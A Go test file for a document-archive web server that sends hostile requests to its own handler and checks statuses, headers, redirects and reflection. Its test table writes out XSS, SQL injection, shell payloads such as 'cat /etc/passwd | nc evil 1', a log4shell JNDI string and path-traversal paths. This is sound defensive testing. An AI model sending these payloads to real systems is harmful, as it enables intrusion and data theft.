package web

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/accord-archive/accord/internal/httpx/httpxtest"
)

// hostileRequest is one request a scraper, fuzzer or attacker might send.
// When rawPath or rawQuery is set, the request's URL is built from the raw
// bytes directly, so that bytes no client library would send (invalid
// UTF-8, NUL) still reach the handler.
type hostileRequest struct {
	name     string
	method   string
	target   string // used when rawPath and rawQuery are empty
	rawPath  string // as it came on the wire, escapes included
	rawQuery string
	body     string
	header   []string // name, value pairs
	want     int
}

func (h hostileRequest) request(t *testing.T) *http.Request {
	t.Helper()
	method := h.method
	if method == "" {
		method = http.MethodGet
	}
	var body io.Reader
	if h.body != "" {
		body = strings.NewReader(h.body)
	}
	target := h.target
	if h.rawPath != "" || h.rawQuery != "" {
		target = "/"
	}
	req := httptest.NewRequest(method, target, body)
	if h.rawPath != "" || h.rawQuery != "" {
		p := h.rawPath
		if p == "" {
			p = "/search"
		}
		path, err := url.PathUnescape(p)
		if err != nil {
			path = p // the escape is broken; the raw bytes are the path
		}
		req.URL.Path, req.URL.RawPath, req.URL.RawQuery = path, p, h.rawQuery
		req.RequestURI = p
		if h.rawQuery != "" {
			req.RequestURI += "?" + h.rawQuery
		}
	}
	for i := 0; i+1 < len(h.header); i += 2 {
		req.Header.Set(h.header[i], h.header[i+1])
	}
	return req
}

func (h hostileRequest) String() string {
	if h.rawPath != "" || h.rawQuery != "" {
		return fmt.Sprintf("%s %q?%q", h.method, h.rawPath, h.rawQuery)
	}
	return fmt.Sprintf("%s %.100q", h.method, h.target)
}

const script = `<script>alert(1)</script>`

// hostileRequests are what scrapers, fuzzers and attackers send: each request with
// the status it must get.
func hostileRequests() []hostileRequest {
	doc := "/documents/" + seedSlug
	q := func(pairs ...string) string { return searchURL(pairs...) }
	return []hostileRequest{
		// Markup and script in every parameter and in paths.
		{name: "script in q", target: q("q", script), want: 200},
		{name: "attribute breakout in q", target: q("q", `"><img src=x onerror=alert(1)>`), want: 200},
		{name: "script in doc", target: q("q", "trade", "doc", script), want: 400},
		{name: "script in party", target: q("q", "trade", "party", script), want: 400},
		{name: "script in year", target: q("q", "trade", "year", script), want: 400},
		{name: "script in kind", target: q("q", "trade", "kind", script), want: 400},
		{name: "script in sort", target: q("q", "trade", "sort", script), want: 400},
		{name: "script in page", target: q("q", "trade", "page", script), want: 400},
		{name: "script in an unknown parameter", target: q("q", "trade", script, script), want: 200},
		{name: "script in documents party", target: "/documents?party=" + url.QueryEscape(script), want: 400},
		{name: "script in documents year", target: "/documents?year=" + url.QueryEscape(script), want: 400},
		{name: "script in documents kind", target: "/documents?kind=" + url.QueryEscape(script), want: 400},
		{name: "script in documents page", target: "/documents?page=" + url.QueryEscape(script), want: 400},
		{name: "script as a slug", target: "/documents/" + url.PathEscape(script), want: 404},
		{name: "script as a clause number", target: doc + "/clauses/" + url.PathEscape(script), want: 404},
		{name: "svg as a document file", target: doc + "/" + url.PathEscape(`<svg onload=alert(1)>`), want: 404},
		{name: "script as a static file", target: "/static/" + url.PathEscape(script) + ".js", want: 404},
		{name: "script as a top-level path", target: "/" + url.PathEscape(script), want: 404},
		{name: "script in an upper-case slug redirect", target: "/DOCUMENTS/" + url.PathEscape(`<SCRIPT>`), want: 301},
		{name: "script in a trailing-slash redirect", target: "/documents/" + url.PathEscape(script) + "/?q=" + url.QueryEscape(script), want: 301},
		{name: "raw markup in the query of a redirect", rawPath: "/Documents", rawQuery: `year="><script>alert(1)</script>`, want: 301},
		{name: "script in headers", target: "/", header: []string{"User-Agent", script, "Referer", "javascript:alert(1)", "X-Forwarded-For", script, "Accept-Language", script}, want: 200},
		{name: "script in the Host header", target: doc, header: []string{"Host", `"><script>x</script>`}, want: 200},

		// SQL and shell fragments.
		{name: "sql drop", target: q("q", `'; DROP TABLE clauses; --`), want: 200},
		{name: "sql tautology", target: q("q", `' OR '1'='1`), want: 200},
		{name: "sql union", target: q("q", `1 UNION SELECT password FROM users`, "party", `EE' OR 1=1--`), want: 400},
		{name: "shell substitution", target: q("q", "$(rm -rf /) `id`"), want: 200},
		{name: "shell pipe", target: q("q", "trade; cat /etc/passwd | nc evil 1"), want: 200},
		{name: "log4shell", target: q("q", "${jndi:ldap://evil/a}"), want: 200},
		{name: "template injection", target: q("q", "{{.}} {{template \"x\"}}"), want: 200},

		// Long input.
		{name: "10 KB query", target: q("q", strings.Repeat("x", 10<<10)), want: 414},
		{name: "1000-byte query", target: q("q", strings.Repeat("trade ", 166)), want: 400},
		{name: "long parameter value under the URL limit", target: q("q", strings.Repeat("a", 1100)), want: 400},
		{name: "10 KB path", target: "/documents/" + strings.Repeat("a", 10<<10), want: 414},
		{name: "100 parameters", target: "/search?" + strings.Repeat("q=a&", 100), want: 400},

		// NUL bytes and invalid UTF-8, escaped and raw.
		{name: "encoded NUL in q", target: "/search?q=trade%00", want: 400},
		{name: "raw NUL in q", rawQuery: "q=trade\x00", want: 400},
		{name: "encoded NUL in path", target: doc + "%00", want: 400},
		{name: "raw NUL in path", rawPath: doc + "\x00", want: 400},
		{name: "encoded invalid UTF-8 in q", target: "/search?q=%ff%fe", want: 400},
		{name: "raw invalid UTF-8 in q", rawQuery: "q=caf\xe9", want: 400},
		{name: "encoded invalid UTF-8 in a parameter name", target: "/search?%ff=1&q=trade", want: 400},
		{name: "encoded invalid UTF-8 in path", target: "/documents/%c3%28", want: 400},
		{name: "raw invalid UTF-8 in path", rawPath: "/documents/\xc3\x28", want: 400},
		{name: "truncated escape", target: "/search?q=%e2%80", want: 400},
		{name: "malformed escape in q", rawQuery: "q=%zz", want: 400},
		{name: "malformed escape in path", rawPath: "/documents/%zz", want: 404},
		{name: "right-to-left override", target: q("q", "\u202etrade"), want: 200},

		// Percent-encoding tricks and path traversal.
		{name: "static dot-dot", rawPath: "/static/../go.mod", want: 404},
		{name: "static dot-dot deeper", rawPath: "/static/../../../../etc/passwd", want: 404},
		{name: "static encoded dot-dot", rawPath: "/static/%2e%2e/go.mod", want: 404},
		{name: "static encoded slash", rawPath: "/static/..%2fgo.mod", want: 404},
		{name: "static double-encoded dot-dot", rawPath: "/static/%252e%252e/go.mod", want: 404},
		{name: "static overlong slash", rawPath: "/static/..%c0%afgo.mod", want: 400},
		{name: "static overlong dot", rawPath: "/static/%c0%ae%c0%ae/go.mod", want: 400},
		{name: "static backslash", rawPath: "/static/..%5c..%5cgo.mod", want: 404},
		{name: "static dot-dot to templates", rawPath: "/static/../templates/base.html", want: 404},
		{name: "document dot-dot", rawPath: "/documents/../../go.mod", want: 404},
		{name: "document file dot-dot", rawPath: doc + "/..%2f..%2fgo.mod", want: 404},
		{name: "protocol-relative path", rawPath: "//evil.example/", want: 404},
		{name: "backslash host", rawPath: "/\\evil.example/", want: 404},

		// Deep brackets, wildcard, regex and fuzzy bombs.
		{name: "deep parentheses", target: q("q", strings.Repeat("(", 250)+"trade"+strings.Repeat(")", 250)), want: 200},
		{name: "deep parentheses past the query limit", target: q("q", strings.Repeat("(", 500)+"trade"+strings.Repeat(")", 500)), want: 400},
		{name: "the search box's 512 characters of Cyrillic", target: q("q", strings.Repeat("Ж", 512)), want: 200},
		{name: "the search box's 512 characters of Chinese", target: q("q", strings.Repeat("漢", 512)), want: 200},
		{name: "513 characters of Cyrillic", target: q("q", strings.Repeat("Ж", 513)), want: 400},
		{name: "deep mixed brackets", target: q("q", strings.Repeat("[{(", 170)), want: 200},
		{name: "deep quotes", target: q("q", strings.Repeat(`"`, 511)), want: 200},
		{name: "wildcard bomb", target: q("q", "*a*b*c*d*e*f*g*h*i*j*k*"), want: 200},
		{name: "many wildcards", target: q("q", strings.Repeat("a* ", 170)), want: 200},
		{name: "many wildcards past the query limit", target: q("q", strings.Repeat("a* ", 200)), want: 400},
		{name: "regex bomb", target: q("q", "/(a+)+$/ /.*.*.*.*=.*/"), want: 200},
		{name: "fuzzy bomb", target: q("q", "trade~99 cooperation~99999999999999999999"), want: 200},
		{name: "boolean soup", target: q("q", strings.Repeat("OR -+ AND NOT ", 36)), want: 200},
		{name: "field bomb", target: q("q", strings.Repeat("party:EE year:2025 doc:x ", 20)), want: 200},

		// Huge and negative numbers.
		{name: "negative page", target: q("q", "trade", "page", "-1"), want: 400},
		{name: "huge page", target: q("q", "trade", "page", "99999999999999999999"), want: 400},
		{name: "exponent page", target: q("q", "trade", "page", "1e9"), want: 400},
		{name: "page past the end", target: q("q", "trade", "page", "1000"), want: 404},
		{name: "page past the bound", target: q("q", "trade", "page", "2147483647"), want: 400},
		{name: "negative year", target: q("q", "trade", "year", "-2025"), want: 400},
		{name: "huge year", target: q("q", "trade", "year", "99999999999999999999"), want: 400},
		{name: "documents huge page", target: "/documents?page=99999999999999999999", want: 400},
		{name: "documents negative year", target: "/documents?year=-1", want: 400},
		{name: "negative clause", target: doc + "/clauses/-1", want: 404},
		{name: "zero clause", target: doc + "/clauses/0", want: 404},
		{name: "huge clause", target: doc + "/clauses/99999999999999999999", want: 404},
		{name: "hex clause", target: doc + "/clauses/0x3", want: 404},
		{name: "unknown provision", target: doc + "/provisions/art_9", want: 404},
		{name: "script as a provision", target: doc + "/provisions/" + url.PathEscape(script), want: 404},
		{name: "long provision eId", target: doc + "/provisions/" + strings.Repeat("para_1__", 500), want: 404},
		{name: "traversal as a provision", target: doc + "/provisions/..%2f..%2fdata.json", want: 404},
		{name: "dot-dot provision", rawPath: doc + "/provisions/../clauses/3", want: 404},
		{name: "NUL in a provision", target: doc + "/provisions/para_3%00", want: 400},
		{name: "invalid UTF-8 in a provision", target: doc + "/provisions/para_%c3%28", want: 400},
		{name: "provision of an unknown document", target: "/documents/nothing/provisions/para_3", want: 404},
		{name: "a clause by its eId", target: doc + "/provisions/para_3", want: 301},
		{name: "a clause's citation by its eId", target: doc + "/provisions/para_3/cite.bib", want: 301},
		{name: "an unknown file of a clause by its eId", target: doc + "/provisions/para_3/data.json", want: 404},
		{name: "script as a provision's file", target: doc + "/provisions/para_3/" + url.PathEscape(script), want: 404},
		{name: "a preamble paragraph's eId with a file", target: doc + "/provisions/preamble__p_1/" + strings.Repeat("x", 300), want: 404},

		// Unusual methods and bodies.
		{name: "POST", method: "POST", target: "/search?q=trade", want: 405},
		{name: "POST with a form", method: "POST", target: "/search", body: "q=trade", header: []string{"Content-Type", "application/x-www-form-urlencoded"}, want: 405},
		{name: "PUT", method: "PUT", target: doc, body: "x", want: 405},
		{name: "DELETE", method: "DELETE", target: doc, want: 405},
		{name: "PATCH", method: "PATCH", target: "/", want: 405},
		{name: "TRACE", method: "TRACE", target: "/", header: []string{"X-Probe", script}, want: 405},
		{name: "CONNECT", method: "CONNECT", target: "/", want: 405},
		{name: "PROPFIND", method: "PROPFIND", target: "/", want: 405},
		{name: "unknown method", method: "BREW", target: "/", want: 405},
		{name: "OPTIONS on a page", method: "OPTIONS", target: doc, want: 405},
		{name: "GET with a body", target: "/search?q=trade", body: "q=trade", want: 413},
		{name: "GET with a chunked body", target: "/", body: "x", header: []string{"Transfer-Encoding", "chunked"}, want: 413},
		{name: "HEAD on a clause", method: "HEAD", target: doc + "/clauses/3", want: 200},

		// Big headers the server admits reach the handler unharmed; the
		// ones past MaxHeaderBytes are TestOversizedHeaders'.
		{name: "32 KB cookie", target: "/", header: []string{"Cookie", "a=" + strings.Repeat("x", 32<<10)}, want: 200},
		{name: "32 KB forwarded-for", target: "/", header: []string{"X-Forwarded-For", strings.Repeat("1.2.3.4, ", 32<<10/9)}, want: 200},
	}
}

func TestHostileRequests(t *testing.T) {
	h := seed(t).Handler()
	reqs := hostileRequests()
	if len(reqs) < 50 {
		t.Fatalf("%d hostile requests; keep at least 50", len(reqs))
	}
	for _, hr := range reqs {
		t.Run(hr.name, func(t *testing.T) {
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, hr.request(t))
			res := rec.Result()
			b := body(t, res)
			if res.StatusCode != hr.want {
				t.Errorf("%v = %d; want %d\n%.300s", hr, res.StatusCode, hr.want, b)
			}
			if res.StatusCode >= 500 {
				t.Errorf("%v = %d: a server error", hr, res.StatusCode)
			}
			if res.StatusCode == http.StatusMethodNotAllowed && res.Header.Get("Allow") != "GET, HEAD" {
				t.Errorf("%v: 405 with Allow %q; want GET, HEAD", hr, res.Header.Get("Allow"))
			}
			if loc := res.Header.Get("Location"); loc != "" {
				checkLocation(t, hr.String(), loc)
			}
			// A body left unread must not be read as the next request.
			if hr.body != "" && res.Header.Get("Connection") != "close" {
				t.Errorf("%v: a request with a body answered without Connection: close", hr)
			}
			checkSecurityHeaders(t, hr.String(), res.Header)
			checkReflection(t, hr.String(), b)
		})
	}
}

// checkSecurityHeaders fails unless h has the headers every response must
// carry, each with exactly its value, and sets no cookie.
func checkSecurityHeaders(t testing.TB, what string, h http.Header) {
	t.Helper()
	httpxtest.CheckSecurityHeaders(t, what, h, false)
	if h.Get("Set-Cookie") != "" {
		t.Errorf("%s: sets a cookie", what)
	}
}

// checkLocation fails if a redirect leaves the site or carries markup.
func checkLocation(t testing.TB, what, loc string) {
	t.Helper()
	if !strings.HasPrefix(loc, "/") || strings.HasPrefix(loc, "//") || strings.HasPrefix(loc, "/\\") {
		t.Errorf("%s: redirect to %q leaves the site", what, loc)
	}
	if strings.ContainsAny(loc, "<>\"' \x00") {
		t.Errorf("%s: redirect to %q carries unescaped input", what, loc)
	}
}

// TestOversizedHeaders sends headers past the server's MaxHeaderBytes over
// a real connection: the server refuses them with 431 before any handler
// runs, and then the connection is closed.
func TestOversizedHeaders(t *testing.T) {
	ts := httptest.NewUnstartedServer(seed(t).Handler())
	ts.Config.MaxHeaderBytes = 64 << 10 // as cmd/accord serve sets it
	ts.Config.ReadHeaderTimeout = 5 * time.Second
	ts.Start()
	defer ts.Close()
	tests := []struct {
		name   string
		header string
		want   int
	}{
		{"one 1 MB header", "X-Big: " + strings.Repeat("x", 1<<20) + "\r\n", 431},
		{"ten thousand headers", strings.Repeat("X-Many: "+script+"\r\n", 10000), 431},
		{"a 1 MB cookie", "Cookie: a=" + strings.Repeat("x", 1<<20) + "\r\n", 431},
		{"just under the limit", "X-Big: " + strings.Repeat("x", 60<<10) + "\r\n", 200},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			conn, err := net.Dial("tcp", ts.Listener.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			conn.SetDeadline(time.Now().Add(10 * time.Second))
			// Write in the background: the server may answer and close
			// before it has read everything.
			go io.WriteString(conn, "GET / HTTP/1.1\r\nHost: accord.example\r\n"+tt.header+"Connection: close\r\n\r\n")
			res, err := http.ReadResponse(bufio.NewReader(conn), nil)
			if err != nil {
				t.Fatalf("reading the response: %v", err)
			}
			b, _ := io.ReadAll(res.Body)
			res.Body.Close()
			if res.StatusCode != tt.want {
				t.Errorf("%s = %d; want %d", tt.name, res.StatusCode, tt.want)
			}
			if strings.Contains(string(b), "<script>") {
				t.Errorf("%s: the response reflects the headers: %.200q", tt.name, b)
			}
		})
	}
}
